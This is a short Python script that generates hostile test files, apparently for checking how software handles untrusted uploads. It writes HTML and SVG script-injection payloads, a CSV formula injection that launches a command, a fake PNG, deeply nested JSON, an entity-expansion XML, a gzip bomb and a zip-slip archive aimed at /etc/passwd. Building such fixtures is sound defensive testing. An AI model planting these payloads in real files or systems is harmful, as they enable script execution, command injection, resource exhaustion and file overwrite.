"""Artifacts whose contents attack whoever looks at them: HTML and SVG with scripts, archives that unpack to gigabytes, formulas, invalid images."""

import gzip
import zipfile

for name, text in (("page.html", "<script>alert(document.domain)</script>"), ("image.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), ("sheet.csv", "=cmd|' /C calc'!A0,1\n"),
                   ("image.png", "<html><script>alert(1)</script>"), ("data.json", "[" * 100_000), ("laughs.xml", "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>"), ("page.xhtml", "<html/>")):
    with open(name, "w") as f:
        f.write(text)
with gzip.open("bomb.gz", "wb", 9) as f:
    for _ in range(64):
        f.write(bytes(1 << 20))
with zipfile.ZipFile("slip.zip", "w") as z:
    z.writestr("../../../../etc/passwd", "x")
